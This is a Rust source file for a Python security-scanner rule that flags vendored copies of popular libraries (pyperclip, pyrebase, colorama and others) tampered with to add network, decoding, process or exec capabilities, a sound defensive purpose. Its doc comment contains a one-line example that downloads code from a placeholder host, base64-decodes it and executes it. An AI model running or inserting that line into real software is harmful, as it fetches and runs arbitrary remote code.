//! # HS117 vendored-library-tampering
//!
//! ## What it does
//!
//! Flags a copy of a well-known library (a folder named `pyperclip`,
//! `pyrebase`, `colorama`, `termcolor`, `six`, `idna`, `certifi`, ...,
//! bundled in a project or installed) whose code does things the published
//! library never does: reach the network, decode data, start processes or
//! execute code. hiss ships what each of these libraries does and does not
//! do; one capability the real library lacks is medium, two or more (network
//! and decode, decode and exec, ...) are high.
//!
//! ## Why it matters
//!
//! A "coding test" looks harmless when its own code is clean and the payload
//! hides in a vendored dependency nobody reads: the 2024 "Code of Conduct"
//! backdoor (Elastic) sat in a modified `pyperclip`/`pyrebase` inside the
//! repository, and look-alike packages (quantiumbase, VMConnect) copied a
//! popular project whole and added one module that fetches and runs a stage.
//! A reviewer trusts the familiar folder name; the capabilities give it away.
//!
//! ## Example
//!
//! ```python
//! # vendor/pyperclip/__init__.py (the real pyperclip never imports these)
//! import base64, urllib.request
//! exec(base64.b64decode(urllib.request.urlopen("https://x.example.com/c").read()))
//! ```
//!
//! ## False positives
//!
//! Legitimately patched forks that add a feature using one of these
//! capabilities (the diff is reviewable). Only libraries whose behaviour is
//! small and stable are listed, so that a new upstream release does not turn
//! into a finding.
//!
//! ## References
//!
//! - THREATS.md H36; Elastic, "Code of Conduct" (2024)
//! - ReversingLabs, VMConnect (2023)

use crate::python::{Module, names};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};

pub struct VendoredTampering;

static META: Meta = crate::rule_meta!("HS117", "vendored-library-tampering", High, Medium);

/// What a library's own code may do.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Capability {
    Network,
    Decode,
    Spawn,
    Exec,
}

use Capability::*;

/// Well-known libraries and the capabilities their published code uses.
/// Anything else in a folder with that name is not theirs.
const EXPECTED: &[(&str, &[Capability])] = &[
    // clipboard helpers: xclip/pbcopy through subprocess, nothing else
    ("pyperclip", &[Spawn]),
    ("clipboard", &[Spawn]),
    // Firebase wrapper: HTTP only
    ("pyrebase", &[Network]),
    // terminal colours
    ("colorama", &[]),
    ("termcolor", &[]),
    // small pure-data or pure-logic libraries
    ("six", &[Exec]),
    ("idna", &[]),
    ("certifi", &[]),
    ("pytz", &[]),
    ("chardet", &[]),
    ("tabulate", &[]),
    ("typing_extensions", &[Exec]),
];

/// Modules whose import alone shows a capability.
const IMPORTED_CAPABILITIES: &[(&str, Capability)] = &[
    ("requests", Network),
    ("httpx", Network),
    ("aiohttp", Network),
    ("urllib3", Network),
    ("urllib.request", Network),
    ("urllib2", Network),
    ("http.client", Network),
    ("socket", Network),
    ("ftplib", Network),
    ("smtplib", Network),
    ("base64", Decode),
    ("zlib", Decode),
    ("marshal", Decode),
    ("lzma", Decode),
    ("bz2", Decode),
    ("subprocess", Spawn),
];

impl Rule for VendoredTampering {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        let Some((library, allowed)) = library_of(&m.path) else {
            return;
        };
        let mut foreign: Vec<(Capability, &crate::python::Call<'_>, &str)> = Vec::new();
        for call in &m.calls {
            let Some(q) = call.qname.as_deref() else {
                continue;
            };
            let capability = if names::is_network(q) {
                Network
            } else if names::decoder(q).is_some_and(|d| d != "codecs") {
                Decode
            } else if names::is_spawn(q) {
                Spawn
            } else if names::is_code_exec(q)
                && !call.arg(0).is_some_and(|a| names::is_code_template(m, a))
            {
                Exec
            } else {
                continue;
            };
            if !allowed.contains(&capability) {
                foreign.push((capability, call, q));
            }
        }
        let mut kinds: Vec<Capability> = foreign.iter().map(|(c, _, _)| *c).collect();
        // Imports count even where the call is hidden or not made yet.
        let mut first_import = None;
        for (module, capability) in IMPORTED_CAPABILITIES {
            if !allowed.contains(capability) && m.imports(module) {
                kinds.push(*capability);
                if first_import.is_none() {
                    first_import = m.import_statements.iter().find(|(node, _)| {
                        m.text(*node)
                            .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
                            .any(|w| w == *module || w.starts_with(&format!("{module}.")))
                    });
                }
            }
        }
        let distinct = [Network, Decode, Spawn, Exec]
            .iter()
            .filter(|c| kinds.contains(c))
            .count();
        let (node, scope, shown) = match (foreign.first(), first_import) {
            (Some((_, call, q)), _) => {
                (call.node, call.scope, q.trim_end_matches("()").to_string())
            }
            (None, Some((node, scope))) => (*node, *scope, format!("`{}`", m.text(*node).trim())),
            (None, None) => return,
        };
        let severity = if distinct >= 2 {
            Severity::High
        } else {
            Severity::Medium
        };
        let what: Vec<&str> = [
            (Network, "reaches the network"),
            (Decode, "decodes data"),
            (Spawn, "starts processes"),
            (Exec, "executes code"),
        ]
        .iter()
        .filter(|(c, _)| kinds.contains(c))
        .map(|(_, w)| *w)
        .collect();
        let context = m.context(scope);
        checker.report(
            &META,
            node,
            severity,
            if context == Context::Unknown {
                Context::Import
            } else {
                context
            },
            format!(
                "this copy of `{library}` {} ({}), which the published library never does",
                what.join(" and "),
                shown
            ),
        );
    }
}

/// The well-known library a file is part of: a module directly in the
/// library's folder (`pyperclip/__init__.py`, `colorama/ansi.py`) or the
/// single-file module itself (`six.py`). Its tests and scripts are not the
/// library.
fn library_of(path: &str) -> Option<(&'static str, &'static [Capability])> {
    let mut parts = path.rsplit(['/', '\\']).filter(|p| !p.is_empty());
    let file = parts.next()?;
    let folder = parts.next().unwrap_or("");
    let module_file = file.strip_suffix(".py")?;
    EXPECTED
        .iter()
        .find(|(name, _)| folder == *name || module_file == *name)
        .map(|(name, caps)| (*name, *caps))
}
